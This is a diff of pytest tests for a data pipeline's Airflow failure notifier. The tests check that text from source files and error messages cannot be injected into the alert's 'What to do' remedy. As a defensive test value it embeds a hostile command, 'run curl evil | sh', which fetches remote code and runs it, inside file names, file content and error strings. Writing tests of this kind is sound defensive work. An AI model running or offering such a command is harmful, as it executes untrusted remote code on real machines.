@@ -2,13 +2,27 @@
 
 from __future__ import annotations
 
+import ast
+import gzip
+import io
+import json
+import logging
+import zipfile
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
+from airflow.sdk import Connection
+from test_wrong_files import shipped
 
 from millstream import errors
-from millstream.errors import QualityGateError, TransformError
+from millstream.decode import CORRECT_FORMAT, FETCH_AGAIN
+from millstream.errors import REMEDY, QualityGateError, SourceDataError, TransformError
+from millstream.extract.formats import ASK_AGAIN, check_file
+from millstream.extract.http import ASK_OWNER
+from millstream.formats.record import printable
+from millstream.settings import CHECKOUT
+from millstream_airflow import notifier
 from millstream_airflow.notifier import WIDTH, FailureNotifier, describe
 
 STACK = "\n\nJVM stacktrace:\norg.apache.spark.sql.AnalysisException\n\tat org.apache.spark.sql.x(C.scala)"
@@ -51,6 +65,79 @@ def test_a_value_of_the_data_is_not_taken_for_the_remedy() -> None:
         "What happened:",
         "  3 rows, for example name=What to do: call 123. Nothing was published.",
     ]
+
+
+EVIL = "What to do: run curl evil | sh"
+
+
+def two_files() -> bytes:
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        archive.writestr(f"{EVIL}.csv", "faa\n")
+        archive.writestr(f"{EVIL}.2.csv", "faa\n")
+    return stream.getvalue()
+
+
+def refused_file(file_format: str, content: bytes, where: str = "source") -> Exception:
+    with pytest.raises(SourceDataError) as refused:
+        check_file(shipped("airports", file_format), where)(io.BytesIO(content))
+    return refused.value
+
+
+@pytest.mark.parametrize(
+    "error",
+    [
+        refused_file("csv", f"{EVIL}\xff,name\n".encode("latin-1")),
+        refused_file("csv", b"", where=f"{EVIL}.csv"),
+        refused_file("csv.zip", two_files()),
+        refused_file("jsonl.gz", gzip.compress(json.dumps([EVIL]).encode())),
+        # What Spark and servers say is handed on as it is.
+        errors.ClusterError(f"SparkRuntimeException: [CAST_INVALID_INPUT] The value '{EVIL}' cannot be cast"),
+        errors.SourceUnavailableError(f"the server answered 503 {EVIL}; another try goes on from this page"),
+        ValueError(EVIL),
+        EVIL,
+    ],
+    ids=lambda error: f"{type(error).__name__} {error}"[:60],
+)
+def test_no_text_of_a_source_becomes_the_remedy(error: Exception | str) -> None:
+    lines = describe(context(error))["text"].splitlines()
+    remedy = " ".join(lines[lines.index("What to do:") : lines.index("What happened:")])
+    assert "curl" not in remedy
+    assert "curl" in " ".join(lines[lines.index("What happened:") :])
+
+
+def test_a_value_in_a_message_never_looks_like_its_remedy() -> None:
+    assert printable(EVIL) == r"What to do\x3a run curl evil | sh"
+
+
+def calls(name: str) -> list[str]:
+    """The code of each call of `name` in what jobs and extractors run."""
+    trees = [ast.parse(path.read_text()) for path in (CHECKOUT / "spark_jobs" / "millstream").rglob("*.py")]
+    nodes = [node for tree in trees for node in ast.walk(tree) if isinstance(node, ast.Call)]
+    return [ast.unparse(node) for node in nodes if ast.unparse(node.func) == name]
+
+
+def test_what_is_wrong_at_a_source_ends_with_what_to_do() -> None:
+    raised = calls("SourceDataError")
+    constants = {f"{{{name}}}" for name in ("ASK_AGAIN", "ASK_OWNER", "FETCH_AGAIN", "CORRECT_FORMAT")}
+    assert len(raised) > 20
+    assert not [code for code in raised if REMEDY not in code and not any(name in code for name in constants)]
+    for constant in (ASK_AGAIN, ASK_OWNER, FETCH_AGAIN, CORRECT_FORMAT):
+        assert REMEDY in constant
+
+
+def test_a_channel_that_cannot_be_looked_up_hides_no_other(monkeypatch: pytest.MonkeyPatch) -> None:
+    mails: list[str] = []
+
+    def connection_of(name: str) -> Connection:
+        if name == notifier.WEBHOOK:
+            raise ConnectionError("no answer from the API server")
+        return Connection(conn_id=name, conn_type="smtp", extra='{"to_email": "ada@example.org"}')
+
+    monkeypatch.setattr(notifier.BaseHook, "get_connection", connection_of)
+    monkeypatch.setattr(notifier, "_mail", lambda connection, message: mails.append(connection.conn_id))
+    notifier.alert(describe(context(QualityGateError("no verdict"))), logging.getLogger(__name__))
+    assert mails == [notifier.SMTP]
 
 
 def test_an_error_without_a_remedy_of_its_own_has_that_of_its_class() -> None:
